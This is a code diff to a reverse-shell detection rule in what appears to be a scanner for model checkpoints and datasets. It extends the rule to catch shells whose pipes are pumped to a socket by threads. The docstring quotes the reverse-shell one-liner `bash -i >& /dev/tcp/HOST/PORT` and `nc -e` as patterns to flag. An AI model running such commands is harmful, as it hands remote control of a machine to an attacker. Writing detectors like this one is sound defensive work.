@@ -1,8 +1,9 @@
 """A connection is tied to a shell: whoever listens at the other end types commands here.
 
 The classic is `connect`, then `dup2` of the socket over the standard streams, then a shell. The same
-thing without `dup2` is a shell with the socket as its streams, `bash -i >& /dev/tcp/HOST/PORT`, or
-`nc -e`. Nothing that a checkpoint or a dataset does needs this.
+thing without `dup2` is a shell with the socket as its streams, two threads that pump between a socket
+and a shell's pipes, `bash -i >& /dev/tcp/HOST/PORT`, or `nc -e`. Nothing that a checkpoint or a dataset
+does needs this.
 
 Bad:
 
@@ -35,7 +36,7 @@ Good:
 
 from collections.abc import Iterator
 
-from scanner.facts import Effect, Facts
+from scanner.facts import Argument, Effect, Facts
 from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
 from scanner.rules._report import finding, together
 
@@ -67,10 +68,19 @@ def check(facts: Facts) -> Iterator[Finding]:
         yield _report(shells[-1], [e for e in effects if e in involved])
         return
     for effect in effects:
-        piped = effect.kind in SHELLS and any("socket" in a.text for a in effect.arguments)
+        piped = effect.kind in SHELLS and any(map(_is_connection, effect.arguments))
         if (piped and reach) or (effect.kind in SHELLS and effect.indicators & TELLTALE):
             yield _report(effect, [*(reach if piped else ()), effect])
             return
+    pumped = [f.effect for f in facts.flowing({"net.recv"}, {"process.input"})]
+    answers = [f.effect for f in facts.flowing({"process.output"}, {"net.send"})]
+    if pumped and answers and reach and shells:
+        yield _report([*reach, *shells, *answers, *pumped])
+
+
+def _is_connection(argument: Argument) -> bool:
+    """Whether the argument is the connection itself, and not what was received from it."""
+    return "socket" in argument.text and all(s.kind != "net.recv" for s in argument.sources)
 
 
 def _report(shell: Effect, effects: list[Effect]) -> Finding:
